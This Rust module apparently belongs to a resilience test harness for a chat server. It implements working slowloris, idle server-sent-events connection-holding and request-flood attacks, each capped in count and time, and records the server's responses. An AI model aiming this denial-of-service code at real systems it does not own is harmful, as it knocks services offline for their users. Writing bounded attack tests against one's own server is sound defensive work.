//! The attacks, each bounded in count and time, all from the attacker's address.

use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use bytes::Bytes;
use http_body_util::Full;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::Instant;

use crate::http::{self, Conn};

/// What the attacker saw of its own traffic.
#[derive(Debug, Default)]
pub(crate) struct Outcome {
    /// Requests (or connections, for the connection attacks) sent.
    pub(crate) sent: usize,
    /// Count per result: an HTTP status, or a short failure name.
    pub(crate) results: BTreeMap<String, usize>,
}

impl Outcome {
    fn count(&mut self, result: impl Into<String>) {
        *self.results.entry(result.into()).or_default() += 1;
    }

    /// `200×n, 429×m, ...`
    pub(crate) fn summary(&self) -> String {
        self.results
            .iter()
            .map(|(result, n)| format!("{result}×{n}"))
            .collect::<Vec<_>>()
            .join(", ")
    }
}

/// Connections that each send part of a request's headers, then one more
/// header line every 2 s, for `hold`: the slowloris attack. Returns once
/// `hold` has passed; `ready` fires when every connection was tried.
pub(crate) async fn slowloris(
    attacker: IpAddr,
    target: SocketAddr,
    connections: usize,
    hold: Duration,
    ready: tokio::sync::oneshot::Sender<()>,
) -> Outcome {
    hold_connections(
        attacker,
        target,
        connections,
        hold,
        ready,
        move |mut tcp, until| async move {
            let head = format!("GET / HTTP/1.1\r\nHost: {target}\r\n");
            if tcp.write_all(head.as_bytes()).await.is_err() {
                return "refused".to_owned();
            }
            let mut n = 0u32;
            loop {
                if Instant::now() >= until {
                    return "held to the end".to_owned();
                }
                tokio::time::sleep(Duration::from_secs(2).min(until - Instant::now())).await;
                n += 1;
                // A peer that closed shows up as a failed write, or as a read of 0.
                let mut probe = [0u8; 512];
                match tokio::time::timeout(Duration::from_millis(1), tcp.read(&mut probe)).await {
                    Ok(Ok(0)) | Ok(Err(_)) => return "closed by server".to_owned(),
                    Ok(Ok(_)) => return "answered".to_owned(),
                    Err(_) => {}
                }
                if tcp
                    .write_all(format!("X-{n}: {n}\r\n").as_bytes())
                    .await
                    .is_err()
                {
                    return "closed by server".to_owned();
                }
            }
        },
    )
    .await
}

/// Connections that each open the lobby's SSE stream and then sit idle for
/// `hold`.
pub(crate) async fn idle_sse(
    attacker: IpAddr,
    target: SocketAddr,
    connections: usize,
    hold: Duration,
    ready: tokio::sync::oneshot::Sender<()>,
) -> Outcome {
    hold_connections(attacker, target, connections, hold, ready, move |mut tcp, until| async move {
        let request = format!(
            "GET /rooms/lobby/events HTTP/1.1\r\nHost: {target}\r\nAccept: text/event-stream\r\n\r\n"
        );
        if tcp.write_all(request.as_bytes()).await.is_err() {
            return "refused".to_owned();
        }
        let mut buf = vec![0u8; 4096];
        let status = match tokio::time::timeout(Duration::from_secs(3), tcp.read(&mut buf)).await {
            Ok(Ok(n)) if n >= 12 => String::from_utf8_lossy(&buf[9..12]).into_owned(),
            Ok(Ok(_)) | Ok(Err(_)) => return "closed by server".to_owned(),
            Err(_) => return "no answer in 3 s".to_owned(),
        };
        // Read (and drop) whatever comes until the hold ends: an idle browser.
        loop {
            let left = until.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return format!("{status}, held to the end");
            }
            match tokio::time::timeout(left, tcp.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => return format!("{status}, closed by server"),
                Ok(Ok(_)) => {}
                Err(_) => return format!("{status}, held to the end"),
            }
        }
    })
    .await
}

async fn hold_connections<F, Fut>(
    attacker: IpAddr,
    target: SocketAddr,
    connections: usize,
    hold: Duration,
    ready: tokio::sync::oneshot::Sender<()>,
    each: F,
) -> Outcome
where
    F: Fn(tokio::net::TcpStream, Instant) -> Fut + Send + Sync + 'static + Clone,
    Fut: Future<Output = String> + Send + 'static,
{
    let until = Instant::now() + hold;
    let mut tasks = Vec::with_capacity(connections);
    for _ in 0..connections {
        let each = each.clone();
        tasks.push(tokio::spawn(async move {
            match tokio::time::timeout(Duration::from_secs(3), http::connect(attacker, target))
                .await
            {
                Ok(Ok(tcp)) => each(tcp, until).await,
                Ok(Err(_)) => "connect failed".to_owned(),
                Err(_) => "connect timed out".to_owned(),
            }
        }));
        // Open them quickly, but not all in one instant (the accept backlog).
        tokio::task::yield_now().await;
    }
    let _ = ready.send(());
    let mut outcome = Outcome {
        sent: connections,
        ..Outcome::default()
    };
    for task in tasks {
        outcome.count(
            task.await
                .unwrap_or_else(|_| "attacker task failed".to_owned()),
        );
    }
    outcome
}

/// `total` requests made by `make(i)`, over `concurrency` keep-alive
/// connections, stopping early at `deadline`.
pub(crate) async fn flood(
    attacker: IpAddr,
    target: SocketAddr,
    total: usize,
    concurrency: usize,
    deadline: Duration,
    make: impl Fn(usize) -> ::http::Request<Full<Bytes>> + Send + Sync + 'static,
) -> Outcome {
    let make = Arc::new(make);
    let next = Arc::new(AtomicUsize::new(0));
    let until = Instant::now() + deadline;
    let mut workers = Vec::new();
    for _ in 0..concurrency {
        let (make, next) = (make.clone(), next.clone());
        workers.push(tokio::spawn(async move {
            let mut outcome = Outcome::default();
            let mut conn: Option<Conn> = None;
            loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                if i >= total || Instant::now() >= until {
                    return outcome;
                }
                outcome.sent += 1;
                if conn.is_none() {
                    match Conn::open(attacker, target, Duration::from_secs(2)).await {
                        Ok(c) => conn = Some(c),
                        Err(_) => {
                            outcome.count("connect failed");
                            continue;
                        }
                    }
                }
                let Some(c) = conn.as_mut() else { continue };
                match c.send(make(i), Duration::from_secs(5)).await {
                    Ok(reply) => outcome.count(reply.status.as_u16().to_string()),
                    Err(_) => {
                        outcome.count("failed");
                        conn = None;
                    }
                }
            }
        }));
    }
    let mut all = Outcome::default();
    for worker in workers {
        if let Ok(outcome) = worker.await {
            all.sent += outcome.sent;
            for (result, n) in outcome.results {
                *all.results.entry(result).or_default() += n;
            }
        }
    }
    all
}
